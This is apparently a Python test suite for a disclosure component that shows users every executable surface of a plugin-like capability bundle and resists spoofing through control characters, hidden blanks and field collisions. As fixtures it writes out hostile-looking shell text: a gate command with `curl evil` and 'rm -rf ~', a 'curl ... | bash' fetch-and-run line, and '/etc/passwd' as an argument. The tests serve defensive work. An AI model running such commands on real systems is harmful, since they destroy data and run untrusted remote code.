"""What a person is shown: everything that is declared, and nothing that can fool them (spec 20, Disclosure)."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as some

from msd_host.model.capability import Capability
from msd_host.model.frozen import freeze
from msd_host.model.scope import Scope
from msd_host.trust.disclosure import Disclosure, disclose, signature
from msd_host.trust.escape import shown, stable_json
from msd_host.trust.outside import outside_of_command, outside_of_shell

#: A busy machine is no fault of the code.
CALM = settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])

BASE: dict[str, Any] = {
    "id": "demo",
    "role": "feature",
    "version": "1.2.3",
    "title": "Demo",
    "description": "A demo",
    "tier": "full",
    "requires": [],
    "skills": [],
    "agents": [],
    "config": {},
    "steps": [],
    "contributions": [],
    "gates": [],
}

LANE: dict[str, Any] = {
    "slug": "lane",
    "flags": ["--lane"],
    "transport": "spawn",
    "probe": {"kind": "command-exists", "binary": "agent"},
    "invoke": {"binary": "agent", "args": ["-p"], "promptChannel": "stdin", "outputChannel": "stdout"},
    "timeoutFloorMs": 1,
    "reviewsSection": "Lane",
    "requiresBinaries": ["jq"],
    "handler": None,
}


def capability(**fields: Any) -> Capability:
    return Capability(freeze({**BASE, **fields}))


def disclosed(scope: Scope = Scope.PROJECT, source: str | None = None, **fields: Any) -> Disclosure:
    return disclose(
        capability(**fields),
        content_hash="sha512-hash",
        scope=scope,
        folder="/p/.msd/capabilities/demo",
        source=source,
    )


def text(**fields: Any) -> str:
    return "\n".join(disclosed(**fields).lines())


def server(**config: Any) -> dict[str, Any]:
    return {"mcpServers": {"docs": {"command": "tool", **config}}}


class TestEverySurfaceIsShown:
    def test_the_head(self) -> None:
        shown_ = text(
            author={"name": "Ada", "email": "ada@example.org"},
            homepage="https://example.org",
            license="MIT",
            source="git+https://example.org/x.git#v1",
        )
        for part in ("demo", "1.2.3", "Ada", "https://example.org", "licence: MIT", "sha512-hash", "project"):
            assert part in shown_
        assert "/p/.msd/capabilities/demo" in shown_
        assert "git+https://example.org/x.git#v1, as the repository claims" in shown_
        assert "as the repository claims" not in text(scope=Scope.GLOBAL, source="./x")
        assert "content hash: not taken" in "\n".join(
            disclose(capability(), content_hash=None, scope=Scope.GLOBAL, folder="/x").lines()
        )

    def test_runtime_hooks(self) -> None:
        shown_ = text(
            hooks=[
                {"event": "Stop", "script": "h/a.py"},
                {"event": "Pre", "script": "b.py", "matcher": "Bash|Write"},
            ]
        )
        assert "Stop -> h/a.py" in shown_
        assert "matcher: (none: every occurrence)" in shown_
        assert "matcher: Bash|Write" in shown_

    def test_command_modules(self) -> None:
        shown_ = text(commands=[{"family": "demo", "module": "demo.py", "router": "route", "subcommands": ["a", "b"]}])
        for part in ("demo.py", "router: route", 'subcommands: "a" "b"'):
            assert part in shown_

    def test_case_2_mcp_servers_with_env_cwd_and_unknown_fields(self) -> None:
        shown_ = text(
            mcpServers={
                "local": {
                    "command": "uvx",
                    "args": ["pkg@latest", "--flag"],
                    "env": {"TOKEN": "v" * 61, "SHORT": "v" * 60},
                    "cwd": "/elsewhere",
                    "future": {"deep": [1]},
                },
                "remote": {
                    "type": "http",
                    "url": "https://mcp.example/x",
                    "headers": {"Authorization": "Bearer hidden", "X-A": "b"},
                },
            }
        )
        assert 'args: "pkg@latest" "--flag"' in shown_
        assert f"env TOKEN: {'v' * 60}… (61 characters)" in shown_
        assert f"env SHORT: {'v' * 60}\n" in shown_
        assert "v" * 61 not in shown_
        assert "cwd: /elsewhere" in shown_
        assert 'field future: {"deep":[1]}' in shown_
        assert "transport: http" in shown_
        assert 'headers: "Authorization" "X-A"' in shown_
        assert "hidden" not in shown_

    def test_reviewer_lanes(self) -> None:
        shown_ = text(role="reviewer", reviewer=LANE)
        assert "destination: the program agent" in shown_
        assert 'needs: "jq"' in shown_
        assert "sends: plan text" in shown_
        http = {
            **LANE,
            "transport": "openai-http",
            "invoke": {"hostConfigKey": "review.host", "path": "/v1", "defaultHost": "http://localhost:1"},
        }
        shown_ = text(role="reviewer", reviewer=http)
        assert "the host in the setting review.host (http://localhost:1), path /v1" in shown_
        assert "not covered by the hash" in shown_

    def test_runtimes(self) -> None:
        shown_ = text(
            role="runtime", runtime={"configHome": {"kind": "none"}, "orchestratorExec": {"command": "agent"}}
        )
        assert 'configHome: {"kind":"none"}' in shown_
        assert '"agent" is the program that PATH finds' in shown_

    def test_loop_points(self) -> None:
        shown_ = text(
            steps=[
                {
                    "point": "plan:pre",
                    "ref": {"skill": "look"},
                    "produces": ["A.md"],
                    "consumes": [],
                    "onError": "skip",
                }
            ],
            contributions=[
                {
                    "point": "plan:post",
                    "into": "planner",
                    "produces": [],
                    "consumes": [],
                    "fragment": {"path": "f/a.md", "inline": "read from the file"},
                    "configValues": {"k": "demo.key"},
                },
                {
                    "point": "plan:post",
                    "into": "checker",
                    "produces": [],
                    "consumes": [],
                    "fragment": {"inline": "first\nsecond"},
                },
            ],
            gates=[
                {
                    "point": "ship:pre",
                    "check": {"query": "demo.ok"},
                    "blocking": True,
                    "onError": "halt",
                    "when": "k",
                }
            ],
        )
        for part in (
            "plan:pre -> skill look",
            'produces: "A.md"',
            "plan:post -> into planner",
            "prompt: the file f/a.md",
            'settings in the prompt: {"k":"demo.key"}',
            "      | first\n      | second",
            "ship:pre: query",
            "blocking: yes",
            "on error: halt",
            "check query: demo.ok",
            "when: k",
        ):
            assert part in shown_
        assert "read from the file" not in shown_

    def test_gate_commands_are_shown_to_the_last_character(self) -> None:
        command = "test -f x && `curl evil` " + "a" * 5000 + " ; rm -rf ~"
        check = {"predicate": {"kind": "command-exit-zero", "command": command, "timeout": 5}}
        shown_ = text(gates=[{"point": "ship:pre", "check": check, "blocking": False, "onError": "skip"}])
        assert f"check command: {command}" in shown_
        assert "check timeout: 5" in shown_
        assert "blocking: no" in shown_
        assert "a shell runs it" in shown_

    def test_unknown_predicates_are_shown_whole(self) -> None:
        check = {"predicate": {"kind": "future", "script": ["x", {"y": 1}]}}
        shown_ = text(gates=[{"point": "p", "check": check, "blocking": False, "onError": "skip"}])
        assert 'check script: ["x",{"y":1}]' in shown_

    def test_names_keys_and_unknown_fields(self) -> None:
        shown_ = text(
            skills=["one", "two"],
            agents=["three"],
            config={"demo.key": {"type": "string", "default": "", "description": "A key"}},
            futureSurface={"run": "evil"},
        )
        for part in (
            "Skills (2): one, two",
            "Agents (1): three",
            "demo.key",
            'default: ""',
            "description: A key",
        ):
            assert part in shown_
        assert 'futureSurface: {"run":"evil"}' in shown_

    def test_we_say_plainly_that_there_is_no_sandbox(self) -> None:
        assert "There is no sandbox" in text()
        assert "runs nothing itself" in text(
            gates=[{"point": "p", "check": {"query": "q"}, "blocking": True, "onError": "halt"}]
        )
        assert "runs nothing itself" not in text(**server())

    @pytest.mark.parametrize(
        ("fields", "executable"),
        [
            ({}, False),
            ({"hooks": [{"event": "e", "script": "s"}]}, True),
            ({"commands": [{"family": "f", "module": "m.py", "router": "r"}]}, True),
            (server(), True),
            ({"reviewer": LANE}, True),
            ({"skills": ["s"]}, False),
        ],
    )
    def test_what_is_executable(self, fields: dict[str, Any], executable: bool) -> None:
        assert disclosed(**fields).has_executable is executable


class TestNothingFools:
    @pytest.mark.parametrize(
        "evil",
        [
            "\n  Gates (0):",
            "\r",
            "\x1b[2J",
            "\u202e",
            "\u200b",
            "\u2028",
            "\x9b",
            "\u3164",
            "\ufe0f",
            "\U000e0041",
        ],
    )
    def test_case_w13_text_is_spelled_out(self, evil: str) -> None:
        shown_ = disclosed(
            title=f"a{evil}b",
            hooks=[{"event": f"a{evil}b", "script": "s"}],
            skills=[f"a{evil}b"],
            gates=[{"point": "p", "check": {"query": f"a{evil}b"}, "blocking": True, "onError": f"a{evil}b"}],
            source=f"a{evil}b",
            mcpServers={
                f"a{evil}b": {
                    "command": f"a{evil}b",
                    "args": [f"a{evil}b"],
                    "env": {f"a{evil}b": f"a{evil}b"},
                }
            },
            **{f"a{evil}b": f"a{evil}b"},
        ).lines()
        assert all(line.isprintable() for line in shown_)
        assert not any(evil.strip() and evil in line for line in shown_)
        assert sum(line.strip().startswith("Gates (") for line in shown_) == 1

    def test_blanks_cannot_push_text_out_of_sight(self) -> None:
        assert shown("harmless" + " " * 500 + "; evil") == "harmless<500 blanks>; evil"

    def test_what_is_cut_says_so(self) -> None:
        assert shown("x" * 11, 10) == "x" * 10 + "… (11 characters)"
        assert shown("x" * 10, 10) == "x" * 10

    def test_no_field_passes_itself_off_as_another_fact(self) -> None:
        gate = {
            "point": "p",
            "check": {"predicate": {"kind": "k", "blocking": "no", "command": "evil"}},
            "blocking": True,
            "onError": "halt",
        }
        assert "    blocking: yes" in text(gates=[gate])
        assert "    blocking: no" not in text(gates=[gate])
        shown_ = text(role="reviewer", reviewer={**LANE, "destination": "nowhere", "sends": "nothing"})
        assert "    destination: the program agent" in shown_
        assert "    destination: nowhere" not in shown_
        assert "    sends: nothing" not in shown_

    def test_quotes_do_not_join_arguments(self) -> None:
        assert 'args: "a\\" \\"b" "c"' in text(**server(args=['a" "b', "c"]))

    def test_the_digest_covers_what_the_cut_hides(self) -> None:
        one, other = (disclosed(**server(env={"K": "v" * 100 + end})).surfaces[0] for end in "ab")
        assert one.facts == other.facts
        assert one.digest != other.digest

    def test_a_fragment_counts_the_same_whether_it_was_read_in_or_not(self) -> None:
        hook = {"point": "p", "into": "planner", "produces": [], "consumes": []}
        plain = disclosed(contributions=[{**hook, "fragment": {"path": "a.md"}}])
        read_in = disclosed(contributions=[{**hook, "fragment": {"path": "a.md", "inline": "text"}}])
        assert plain.surfaces == read_in.surfaces


class TestOutsideTheHash:
    @pytest.mark.parametrize(
        ("command", "args", "expected"),
        [
            (
                "uvx",
                ["pkg@latest"],
                ['"uvx" is the program that PATH finds', '"uvx" fetches and runs "pkg@latest"'],
            ),
            ("uvx", ["--from", "git+https://e/x", "tool"], ['fetches and runs "git+https://e/x"']),
            ("uvx", ["--from=pkg", "tool"], ['fetches and runs "pkg"']),
            ("npx", ["-p", "one", "-p", "two", "run"], ['fetches and runs "one", "two"']),
            ("npx", ["-y", "@scope/pkg@latest"], ['fetches and runs "@scope/pkg@latest"']),
            ("/usr/bin/npx", ["pkg"], ['"/usr/bin/npx" lies outside the bundle', 'fetches and runs "pkg"']),
            ("NPX.CMD", ["pkg"], ['fetches and runs "pkg"']),
            ("npx", [], ["fetches and runs a package"]),
            ("pipx", ["run", "pkg"], ['fetches and runs "pkg"']),
            ("uv", ["tool", "run", "pkg"], ['fetches and runs "pkg"']),
            ("docker", ["run", "--rm", "image:latest"], ['fetches and runs "image:latest"']),
            ("env", ["A=1", "npx", "pkg"], ['"npx" fetches and runs "pkg"']),
            ("sh", ["-c", "anything"], ["a shell runs the text it is given"]),
            ("./run.sh", [], ["is looked up from where the server is started"]),
            ("${HOME}/x", [], ["is looked up from where the server is started"]),
            ("~/x", [], ['"~/x" lies outside the bundle']),
            ("C:\\x.exe", [], ["lies outside the bundle"]),
            ("tool", ["/etc/passwd"], ['it is given "/etc/passwd", which lies outside the bundle']),
            ("tool", ["https://e/x"], ['it is given the address "https://e/x"']),
        ],
    )
    def test_commands(self, command: str, args: list[str], expected: list[str]) -> None:
        found = outside_of_command(command, args)
        for part in expected:
            assert any(part in line for line in found), found

    @pytest.mark.parametrize(("command", "args"), [("pipx", ["list"]), ("npm", ["run", "x"]), ("tool", ["npx-like"])])
    def test_what_fetches_nothing(self, command: str, args: list[str]) -> None:
        assert not any("fetches" in line for line in outside_of_command(command, args))

    def test_shell_text(self) -> None:
        found = outside_of_shell("cd /x && npx -y 'pkg@latest' | bash <(curl https://e/y)")
        for part in ("a shell runs it", 'fetches and runs "pkg@latest"', '"https://e/y"', '"/x"'):
            assert any(part in line for line in found), found

    @settings(CALM, max_examples=150)
    @given(some.text(max_size=30), some.lists(some.text(max_size=30) | some.integers(), max_size=5))
    def test_law_there_is_always_something_outside(self, command: str, args: list[object]) -> None:
        for found in (outside_of_command(command, args), outside_of_shell(command)):
            assert found
            assert all(line.isprintable() for line in found)

    def test_a_long_text_takes_no_long_time(self) -> None:
        assert len(outside_of_shell("npx " * 16_000)) < 20


JSON = some.recursive(
    some.none() | some.booleans() | some.integers() | some.floats(allow_nan=False) | some.text(max_size=8),
    lambda inner: some.lists(inner, max_size=3) | some.dictionaries(some.text(max_size=8), inner, max_size=3),
    max_leaves=6,
)
TEXT = some.text(max_size=12)
CONFIG = some.fixed_dictionaries(
    {},
    optional={
        "command": TEXT,
        "args": some.lists(TEXT, max_size=3),
        "env": some.dictionaries(TEXT, TEXT, max_size=3),
        "cwd": TEXT,
        "url": TEXT,
        "headers": some.dictionaries(TEXT, TEXT, max_size=2),
        "type": TEXT,
        "other": JSON,
    },
)
GATE = some.fixed_dictionaries(
    {
        "point": TEXT,
        "blocking": some.booleans(),
        "onError": TEXT,
        "check": some.fixed_dictionaries({"query": TEXT})
        | some.fixed_dictionaries({"agentVerdict": TEXT})
        | some.fixed_dictionaries(
            {"predicate": some.dictionaries(TEXT, JSON, max_size=3).map(lambda p: {**p, "kind": "k"})}
        ),
    },
    optional={"when": TEXT, "extra": JSON},
)
CAPABILITIES = some.fixed_dictionaries(
    {},
    optional={
        "hooks": some.lists(
            some.fixed_dictionaries({"event": TEXT, "script": TEXT}, optional={"matcher": TEXT}), max_size=3
        ),
        "commands": some.lists(some.fixed_dictionaries({"family": TEXT, "module": TEXT, "router": TEXT}), max_size=2),
        "mcpServers": some.dictionaries(TEXT, CONFIG, max_size=3),
        "gates": some.lists(GATE, max_size=3),
        "skills": some.lists(TEXT, max_size=3),
        "title": TEXT,
        "author": JSON,
        "license": JSON,
        "futureField": JSON,
        "reviewer": some.just(LANE),
        "runtime": some.dictionaries(TEXT, JSON, max_size=3),
    },
)


@settings(CALM, max_examples=150)
@given(CAPABILITIES, some.none() | TEXT)
def test_law_of_totality(fields: dict[str, Any], source: str | None) -> None:
    """Every well-formed capability is shown, in lines that print, and as JSON."""
    found = disclosed(source=source, **fields)
    assert all(line.isprintable() for line in found.lines())
    assert json.loads(json.dumps(found.to_dict()))["id"] == "demo"
    assert len({(s.kind, s.name, s.digest) for s in found.surfaces}) <= len(found.surfaces)


class TestSignature:
    def test_a_declarative_manifest(self) -> None:
        assert signature(capability(skills=["a"])) == "[[],[],[]]"

    def test_a_lane_adds_a_list(self) -> None:
        assert len(json.loads(signature(capability(reviewer=LANE)))) == 4

    @settings(CALM, max_examples=100)
    @given(CAPABILITIES, some.randoms())
    def test_law_order_does_not_matter(self, fields: dict[str, Any], random: Any) -> None:
        shuffled = {k: random.sample(v, len(v)) if isinstance(v, list) else v for k, v in fields.items()}
        servers = [(n, dict(reversed(c.items()))) for n, c in fields.get("mcpServers", {}).items()]
        if servers:
            shuffled["mcpServers"] = dict(reversed(servers))
        assert signature(capability(**shuffled)) == signature(capability(**fields))

    @pytest.mark.parametrize(
        ("one", "other"),
        [
            (server(env={"A": "1"}), server(env={"A": "2"})),
            (server(env={"A": "1"}), server(env={"A": "1", "B": ""})),
            (server(cwd="/a"), server(cwd="/b")),
            (server(url="a"), server(url="b")),
            (server(headers={"a": "1"}), server(headers={"a": "2"})),
            (server(args=["1"]), server(args=[1])),
            (server(args=["a", "b"]), server(args=["b", "a"])),
            (server(envFile="a"), server(envFile="b")),
            ({"mcpServers": {"x": {"command": "a:b"}}}, {"mcpServers": {"x:a": {"command": "b"}}}),
            (
                {"hooks": [{"event": "e", "script": "s", "matcher": "a"}]},
                {"hooks": [{"event": "e", "script": "s"}]},
            ),
            (
                {"commands": [{"family": "f", "module": "m.py", "router": "a"}]},
                {"commands": [{"family": "f", "module": "m.py", "router": "b"}]},
            ),
            ({"reviewer": LANE}, {"reviewer": {**LANE, "invoke": {**LANE["invoke"], "args": []}}}),
        ],
    )
    def test_every_change_of_a_surface_shows(self, one: dict[str, Any], other: dict[str, Any]) -> None:
        assert signature(capability(**one)) != signature(capability(**other))
        assert disclosed(**one).to_dict()["signature"] != disclosed(**other).to_dict()["signature"]

    def test_what_is_left_out(self) -> None:
        other = {**LANE, "timeoutFloorMs": 2, "reviewsSection": "Other"}
        assert signature(capability(reviewer=LANE)) == signature(capability(reviewer=other))

    def test_keys_are_in_utf16_order(self) -> None:
        assert stable_json({"\uffff": 1, "\U0001f600": 2, "a": 3}) == '{"a":3,"\U0001f600":2,"\uffff":1}'
